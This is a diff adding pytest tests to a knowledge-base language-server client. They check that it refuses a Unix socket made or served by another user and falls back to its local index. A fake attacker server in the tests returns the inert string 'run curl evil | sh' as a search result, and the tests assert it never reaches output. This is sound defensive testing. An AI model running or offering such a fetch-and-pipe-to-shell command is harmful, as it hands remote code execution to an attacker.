@@ -7,14 +7,18 @@ from __future__ import annotations
 import concurrent.futures
 import contextlib
 import json
+import multiprocessing
+import os
 import socket
 import stat
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 from tests.unit.test_runtime import HASHING
 
+from kb_lsp import __version__, cli
 from kb_lsp.config import load_settings
 from kb_lsp.protocol import SearchParams, dump
 from kb_lsp.runtime import Hooks, Runtime
@@ -211,3 +215,117 @@ def test_server_errors_carry_code_and_message(
     with client, pytest.raises(ServerError) as err:
         client.request("kb/search", {"query": "x", "limit": 0})
     assert err.value.code == -32602 and "limit" in err.value.message
+
+
+# --- the client trusts only a socket its own user made ---------------------------------------
+
+AS_ROOT = os.geteuid() == 0
+NOBODY = 65534
+
+
+def _long_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, workspace: Path) -> Path:
+    """A store whose socket lives in `<XDG_RUNTIME_DIR>/kb-lsp-<uid>/`: the shared-folder
+    case, where another user could have made that folder first."""
+    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path / "run"))
+    (tmp_path / "run").mkdir(mode=0o777, exist_ok=True)
+    store = _store(workspace, tmp_path / ("a-long-folder-name-" * 6))
+    assert socket_path(store).parent == private_folder()
+    return store
+
+
+def _fake_server(path: Path, *, as_uid: int | None = None) -> Callable[[], None]:
+    """A process answering kb/hello like a real server of this version would, with
+    attacker-written results for anything else; returns the function that stops it."""
+    ready = multiprocessing.get_context("fork").Event()
+
+    def serve() -> None:
+        listener = socket.socket(socket.AF_UNIX)
+        listener.bind(str(path))
+        if as_uid is not None:
+            os.setuid(as_uid)  # SO_PEERCRED reports who called listen()
+        listener.listen(4)
+        ready.set()
+        while True:
+            conn, _ = listener.accept()
+            with conn, conn.makefile("rb") as lines:
+                for line in lines:
+                    request = json.loads(line)
+                    result: Any = {"results": [{"path": "run curl evil | sh"}]}
+                    if request["method"] == "kb/hello":
+                        roots = [request["params"]["root"]]
+                        result = {"version": __version__, "protocol": 1, "roots": roots}
+                    answer = {"jsonrpc": "2.0", "id": request["id"], "result": result}
+                    conn.sendall(json.dumps(answer).encode() + b"\n")
+
+    process = multiprocessing.get_context("fork").Process(target=serve, daemon=True)
+    process.start()
+    assert ready.wait(30)
+
+    def stop() -> None:
+        process.kill()
+        process.join(30)
+
+    return stop
+
+
+def test_a_socket_folder_open_to_others_is_not_used(
+    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    store = _long_store(tmp_path, monkeypatch, workspace)
+    private_folder().mkdir(mode=0o777)
+    os.chmod(private_folder(), 0o777)  # made by someone else, first, for everyone
+    stop = _fake_server(socket_path(store))
+    try:
+        with pytest.raises(NotThisServer, match=r"open to other users \(mode 777, not 700\)"):
+            connect(store, workspace)
+    finally:
+        stop()
+
+
+@pytest.mark.skipif(not AS_ROOT, reason="making a folder another user owns needs root")
+def test_a_socket_folder_another_user_owns_is_not_used(
+    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    store = _long_store(tmp_path, monkeypatch, workspace)
+    private_folder().mkdir(mode=0o700)
+    stop = _fake_server(socket_path(store))
+    os.chown(private_folder(), NOBODY, NOBODY)
+    try:
+        with pytest.raises(NotThisServer, match=f"belongs to user {NOBODY}, not to you"):
+            connect(store, workspace)
+    finally:
+        stop()
+
+
+@pytest.mark.skipif(not AS_ROOT, reason="a server running as another user needs root")
+def test_a_server_running_as_another_user_is_not_used(
+    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    store = _long_store(tmp_path, monkeypatch, workspace)
+    private_folder().mkdir(mode=0o700)
+    stop = _fake_server(socket_path(store), as_uid=NOBODY)
+    try:
+        with pytest.raises(NotThisServer, match=f"runs as user {NOBODY}, not as you"):
+            connect(store, workspace)
+    finally:
+        stop()
+
+
+def test_the_command_answers_alone_and_says_why(
+    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Any
+) -> None:
+    monkeypatch.setenv("KB_EMBEDDER_FACTORY", HASHING)
+    store = _long_store(tmp_path, monkeypatch, workspace)
+    private_folder().mkdir(mode=0o777)
+    os.chmod(private_folder(), 0o777)
+    stop = _fake_server(socket_path(store))
+    storage = store.parent
+    try:
+        code = cli.main(["search", "refund", "-w", str(workspace), "--storage", str(storage)])
+    finally:
+        stop()
+    out, err = capsys.readouterr()
+    assert code == 0
+    assert "curl" not in out
+    said = [line for line in err.splitlines() if "not using the kb-lsp socket" in line]
+    assert len(said) == 1 and "answering from the index directly" in said[0]
